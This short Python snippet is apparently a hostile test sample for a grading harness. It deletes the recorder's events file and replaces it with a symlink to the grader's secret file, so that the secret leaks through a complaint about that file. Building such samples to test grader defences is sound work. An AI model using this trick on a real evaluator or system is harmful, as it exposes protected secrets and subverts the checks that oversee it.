# The recorder's file becomes a link to a file of the grader's, which would be shown in a complaint about it.
from hostile import EVENTS, target, train, tried

train()
tried()
EVENTS.unlink()
EVENTS.symlink_to(target.secret_file)
